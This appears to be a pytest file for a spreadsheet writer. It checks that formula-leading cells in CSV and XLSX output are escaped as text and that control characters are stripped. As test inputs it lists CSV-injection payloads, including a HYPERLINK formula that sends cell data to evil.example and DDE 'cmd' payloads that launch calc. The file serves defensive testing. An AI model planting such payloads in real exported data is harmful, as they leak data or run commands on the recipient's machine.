"""The one CSV/XLSX writer: formulas stay text, stored text never breaks a workbook."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from handlers.data.spreadsheets import cell, csv_text, write_xlsx

# Payloads from OWASP's CSV-injection page, and the control characters that lead into them.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\x07=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_start_is_written_as_text(text: str) -> None:
    written = cell(text)
    assert isinstance(written, str) and written.startswith("'")
    [header, [read]] = list(csv.reader(io.StringIO(csv_text(["text"], [[text]]))))
    assert header == ["text"] and read.startswith("'")


def test_numbers_stay_numbers_and_plain_text_is_untouched() -> None:
    assert cell(-5) == -5 and cell(2.5) == 2.5 and cell(None) is None
    assert cell("litter pick, 23 volunteers") == "litter pick, 23 volunteers"


def test_a_workbook_takes_any_stored_text(tmp_path: Path) -> None:
    rows = [[1, "bell\x07 and escape\x1b and NUL\x00 inside"], [2, "=1+1\x0b"]]
    path = tmp_path / "out.xlsx"
    assert write_xlsx(path, ["id", "text"], rows, sheet="Activity") == 2
    sheet = load_workbook(path).active
    assert [c.value for c in sheet[2]] == [1, "bell and escape and NUL inside"]
    assert [c.value for c in sheet[3]] == [2, "'=1+1"]
